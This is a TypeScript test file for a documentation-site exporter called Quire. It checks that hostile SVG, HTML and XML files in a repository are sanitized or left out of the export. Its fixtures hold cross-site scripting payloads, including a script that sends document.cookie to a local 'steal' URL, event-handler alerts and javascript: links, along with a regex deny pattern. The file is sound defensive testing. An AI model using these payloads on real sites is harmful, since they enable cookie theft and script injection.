/**
 * A hostile repository's own files in a real export: SVG images, logo, favicon and a CSS
 * background holding script, event handlers, HTML in `<foreignObject>`, `javascript:`
 * links and references into the internal network come out as drawing only; a file named
 * `.svg` that is not an SVG is left out with an error; HTML and XML files a page links to
 * are left out unless site scripts are enabled; a file at a path Quire writes itself (the
 * theme script) never replaces Quire's.
 */
import { readFileSync, readdirSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportSite } from '../../../src/render/export-site.js';
import type { ExportReport } from '../../../src/render/types.js';
import { tempDir, writeFiles, type TempDir } from '../site/make-site.js';

const HOSTILE_SVG =
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]>' +
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 8 8" onload="alert(1)">' +
  '<script type="text/javascript">fetch("http://127.0.0.1/steal?c=" + document.cookie)</script>' +
  '<style>@import url("http://127.0.0.1/track.css");</style>' +
  '<foreignObject width="8" height="8"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://127.0.0.1/admin"></iframe></foreignObject>' +
  '<a xlink:href="javascript:alert(document.domain)"><rect width="8" height="8" fill="#036" onclick="alert(2)"/></a>' +
  '<use href="http://127.0.0.1/sprite.svg#icon"/><image xlink:href="http://127.0.0.1/pixel.png" width="1" height="1"/>' +
  '<circle cx="4" cy="4" r="2" fill="#fc0"><set attributeName="onmouseover" to="alert(3)"/></circle></svg>';

/** What no SVG of the output may hold. */
const ACTIVE = /<script|\bon[a-z]+=|foreignObject|javascript:|127\.0\.0\.1|<iframe|<set|@import/i;

let tmp: TempDir;
const root = () => join(tmp.path, 'docs');
const outFiles = (out: string) => readdirSync(join(tmp.path, out), { recursive: true, encoding: 'utf8' });
const read = (out: string, file: string) => readFileSync(join(tmp.path, out, file), 'utf8');
const messages = (report: ExportReport) => report.diagnostics.map((d) => `${d.severity} ${d.file}: ${d.message}`);

beforeAll(() => {
  tmp = tempDir('quire-hostile-');
  writeFiles(root(), {
    'docs.json': JSON.stringify({ name: 'Hostile', logo: { light: '/logo/light.svg', dark: '/logo/dark.svg' }, favicon: '/favicon.svg', navigation: { groups: [{ group: 'Docs', pages: ['index'] }, { group: 'API', openapi: '/files/spec.html' }] } }),
    'index.mdx': [
      '---',
      'title: Home',
      '---',
      '',
      '![Diagram](/images/evil.svg)',
      '',
      '<img src="/images/fake.svg" alt="Fake" />',
      '',
      '[Demo](/files/demo.html) and [feed](/files/feed.xml) and [page](/files/page.xhtml).',
      '',
    ].join('\n'),
    'images/evil.svg': HOSTILE_SVG,
    'images/fake.svg': '<html><body><script>alert(1)</script></body></html>',
    'images/bg.svg': HOSTILE_SVG,
    'logo/light.svg': HOSTILE_SVG,
    'logo/dark.svg': HOSTILE_SVG.replace('#036', '#fff'),
    'favicon.svg': HOSTILE_SVG,
    'style.css': '.hero { background: url(/images/bg.svg); }',
    'files/demo.html': '<!doctype html><script>alert(document.cookie)</script>',
    'files/feed.xml': '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    // Named as the site's OpenAPI document: llms.txt links spec documents, never other files.
    'files/spec.html': JSON.stringify({ openapi: '3.0.3', info: { title: 'API', version: '1', description: '<script>alert(document.cookie)</script>' }, paths: { '/ping': { get: { summary: 'Ping', responses: { 200: { description: 'OK' } } } } } }),
    'files/page.xhtml': '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    'images/huge.svg': '',
  });
  // Sparse: 26 MiB on paper, nothing on disk.
  truncateSync(join(root(), 'images/huge.svg'), 26 * 2 ** 20);
});

afterAll(() => tmp.cleanup());

describe('an export of a repository whose own files hold active content', () => {
  let report: ExportReport;
  beforeAll(async () => {
    report = await exportSite({ root: root(), outDir: join(tmp.path, 'out'), workers: 0 });
  });

  it('copies every SVG as drawing only: no script, handler, HTML, javascript: link or outside reference', () => {
    const svgs = outFiles('out').filter((f) => f.endsWith('.svg')).sort();
    expect(svgs).toEqual(['favicon.svg', 'images/bg.svg', 'images/evil.svg', 'logo/dark.svg', 'logo/light.svg']);
    for (const f of svgs) {
      const text = read('out', f);
      expect(text, f).not.toMatch(ACTIVE);
      expect(text, f).toMatch(/^<svg viewBox="0 0 8 8" xmlns="http:\/\/www.w3.org\/2000\/svg"><rect width="8" height="8" fill="#(036|fff)"><\/rect><use><\/use><circle cx="4" cy="4" r="2" fill="#fc0"><\/circle><\/svg>$/);
    }
  });

  it('leaves none of the hostile content in any file of the output', () => {
    for (const f of outFiles('out').filter((f) => /\.(svg|html|md|css|js|json|txt|xml)$/.test(f))) {
      const text = read('out', f);
      for (const bad of ['127.0.0.1', 'javascript:alert', 'onload="alert', 'foreignObject', 'document.cookie', 'alert(2)', 'alert(3)']) expect(text.includes(bad), `${f} holds ${bad}`).toBe(false);
    }
  });

  it('names each sanitized file and what it lost', () => {
    expect(messages(report)).toContain(
      'warning images/evil.svg: <script>, <style>, <iframe>, <image>, <set>, onload=, onclick=, href= removed from "images/evil.svg" (an SVG in the output keeps only drawing, so it runs nothing and loads nothing when opened on its own)',
    );
    for (const f of ['favicon.svg', 'images/bg.svg', 'logo/dark.svg', 'logo/light.svg']) expect(report.diagnostics.some((d) => d.file === f && /removed from/.test(d.message))).toBe(true);
  });

  it('leaves out, with an error, a file named .svg that is not an SVG and one too large to sanitize', () => {
    expect(outFiles('out')).not.toContain('images/fake.svg');
    expect(messages(report)).toContain('error images/fake.svg: "images/fake.svg" is not an SVG document (its root element is not <svg>), so it cannot be made safe to serve; it is left out of the output');
    expect(outFiles('out')).not.toContain('images/huge.svg');
    expect(messages(report)).toContain('error images/huge.svg: "images/huge.svg" is 26 MB, over the 25 MB an SVG may have to be sanitized; it is left out of the output');
  });

  it('leaves out linked HTML and XML files, with a warning each', () => {
    const out = outFiles('out');
    for (const f of ['files/demo.html', 'files/feed.xml', 'files/page.xhtml']) {
      expect(out).not.toContain(f);
      expect(messages(report)).toContain(
        `warning ${f}: "${f}" is left out of the output: an HTML or XML file opened from the docs site could run script on its origin; it is copied only when site scripts are enabled for the project (--site-scripts)`,
      );
    }
  });

  it('copies them as written when the project enables site scripts, and still sanitizes SVGs', async () => {
    const open = await exportSite({ root: root(), outDir: join(tmp.path, 'scripts'), workers: 0, siteScripts: true });
    expect(read('scripts', 'files/demo.html')).toBe('<!doctype html><script>alert(document.cookie)</script>');
    expect(read('scripts', 'files/feed.xml')).toContain('<script>');
    expect(read('scripts', 'images/evil.svg')).not.toMatch(ACTIVE);
    expect(open.diagnostics.some((d) => d.file === 'files/demo.html')).toBe(false);
  });

  it("never lets a file of the repository replace one Quire writes (the theme's script)", async () => {
    const themeJs = report.files.find((f) => /^assets\/site\.[0-9a-f]{8}\.js$/.test(f))!;
    expect(themeJs).toBeDefined();
    const ours = read('out', themeJs);
    writeFiles(root(), { [themeJs]: 'alert("every page runs this")' });
    writeFileSync(join(root(), 'index.mdx'), `${readFileSync(join(root(), 'index.mdx'), 'utf8')}\n[script](/${themeJs})\n`);
    const again = await exportSite({ root: root(), outDir: join(tmp.path, 'collide'), workers: 0 });
    expect(again.files).toContain(themeJs);
    expect(read('collide', themeJs)).toBe(ours);
    expect(messages(again)).toContain(`warning ${themeJs}: "${themeJs}" is left out of the output: Quire writes its own file at that path (rename yours)`);
  });
});
